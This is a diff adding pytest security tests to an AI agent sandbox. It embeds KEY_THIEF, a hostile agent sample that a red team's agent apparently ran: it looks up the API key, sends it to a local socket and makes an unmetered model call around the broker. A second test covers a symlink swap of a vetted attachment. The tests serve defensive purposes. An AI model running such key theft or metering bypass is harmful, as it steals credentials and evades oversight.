@@ -20,14 +20,15 @@ import threading
 import time
 from collections.abc import Callable, Iterator
 from pathlib import Path
+from typing import Any
 
 import escapes
 import pytest
-from agents import write_agent, write_raw
+from agents import agent_source, write_agent, write_raw
 from conftest import IMPORT_ROOT, TEST_KEY, OpenDoor
 from fakeapi import FakeMessagesAPI, Reply
 
-from agentgod import config, executor, generator, sandbox
+from agentgod import attachments, config, executor, generator, sandbox
 from agentgod.broker import Channel
 
 WITHOUT_BWRAP = "auto-without-bwrap"
@@ -446,3 +447,111 @@ def test_a_legitimate_agent_reaches_the_api(
     [request] = fake_api.messages()
     assert request.prompt == "Summarise: the escape corpus"
     assert request.api_key == TEST_KEY
+
+
+# ---- the key, with no walls at all (issue 23) -------------------------------------------------
+
+KEY_THIEF = """
+import urllib.request
+
+def run(task, previous_outputs):
+    port = json.loads(task)["port"]
+    found = []
+    try:
+        found.append(api_key())
+    except Exception:
+        pass
+    try:
+        found.append(_setting("ANTHROPIC_API_KEY"))
+    except Exception:
+        pass
+    if found:
+        urllib.request.urlopen(f"http://127.0.0.1:{port}/", data=" ".join(found).encode())
+    try:
+        body = {"max_tokens": 5, "messages": [{"role": "user", "content": "unmetered"}]}
+        _post({"model": "claude-sonnet-5-5", **body})
+        unmetered = "made"
+    except Exception as error:
+        unmetered = type(error).__name__
+    return f"keys {len(found)}, unmetered call {unmetered}, " + call_llm("a metered call")
+"""
+"""What the red team's agent did under SANDBOX=off, in code the guard used to accept: call the
+runtime's own key lookup, which found the home's .env up the tree from the agent's file, send the
+key out, and call the model through the runtime's private request function, unmetered."""
+
+
+def test_without_walls_an_agent_finds_no_key_and_no_road_around_the_broker(
+    fake_api: FakeMessagesAPI,
+    door: OpenDoor,
+    isolated_home: Path,
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    monkeypatch.setenv("SANDBOX", "off")
+    (isolated_home / ".env").write_text(
+        f"ANTHROPIC_API_KEY={TEST_KEY}\nANTHROPIC_BASE_URL={fake_api.base_url}\n"
+    )
+    fake_api.queue(Reply("the broker's answer"))
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        port = listener.getsockname()[1]
+        path = write_agent(KEY_THIEF, name="key_thief")  # run anyway, as if the guard had not
+        result = executor.execute_agent(path, json.dumps({"port": port}), {}, door=door())
+        listener.settimeout(1)  # a completed handshake would be queued by now, accepted or not
+        with pytest.raises(TimeoutError):
+            listener.accept()
+    assert result.ok, result.error
+    assert result.output == "keys 0, unmetered call NameError, the broker's answer"
+    billed = door.ledger.totals().calls  # type: ignore[attr-defined]
+    assert len(fake_api.messages()) == billed == 1, "every call the API saw was billed"
+    assert TEST_KEY not in result.output + result.error
+    complaints = generator.check_assembled(agent_source(KEY_THIEF, name="key_thief"))
+    assert any("_setting is none of this code's own names" in c for c in complaints)
+    assert any("_post is none of this code's own names" in c for c in complaints)
+
+
+# ---- an attachment is the file that was vetted (issue 23) -------------------------------------
+
+
+def test_an_attachment_swapped_for_a_link_reaches_neither_the_agent_nor_the_model(
+    fake_api: FakeMessagesAPI, door: OpenDoor, configuration: str, tmp_path: Path
+) -> None:
+    """Checked by path once, then swapped for a link: the read-only mount and the broker's
+    files= used to follow it to a file never vetted."""
+    work = tmp_path / "work"
+    work.mkdir()
+    (work / "report.txt").write_text("the vetted report", encoding="utf-8")
+    elsewhere = tmp_path / "elsewhere.txt"
+    elsewhere.write_text("NEVER-VETTED-9e4b", encoding="utf-8")
+    elsewhere.chmod(0o644)
+    attached = attachments.gather(
+        "summarise @report.txt", cwd=work, max_bytes=1 << 20, max_files=10
+    )
+    (work / "report.txt").unlink()
+    (work / "report.txt").symlink_to(elsewhere)  # during the run, before this agent starts
+    fake_api.queue(Reply("a summary"))
+    body = """
+        def run(task, previous_outputs):
+            [(name, path)] = input_files().items()
+            try:
+                with open(path, encoding="utf-8") as handle:
+                    seen = handle.read()
+            except OSError as error:
+                seen = f"unreadable ({type(error).__name__})"
+            return seen + " | " + call_llm("summarise", files=[name])
+        """
+    given: dict[str, Any] = {
+        "door": door(files=attached.inputs(), file_ids=attached.identities()),
+        "inputs": attached.inputs(),
+        "read_only": attached.mounts,
+        "identities": attached.identities(),
+    }
+    if configuration == AWAITING_CODE:
+        started = executor.start_agent(None, preload=generator.RUNTIME_MODULES, **given)
+        if isinstance(started, executor.AgentProcess):
+            started = started.run("t", {}, path=write_agent(body, name="reader"))
+        result = started
+    else:
+        result = executor.execute_agent(write_agent(body, name="reader"), "t", {}, **given)
+    assert "NEVER-VETTED" not in result.output + result.error
+    assert all("NEVER-VETTED" not in json.dumps(request.body) for request in fake_api.messages())
+    assert not result.ok
+    assert "was replaced since it was attached" in result.error
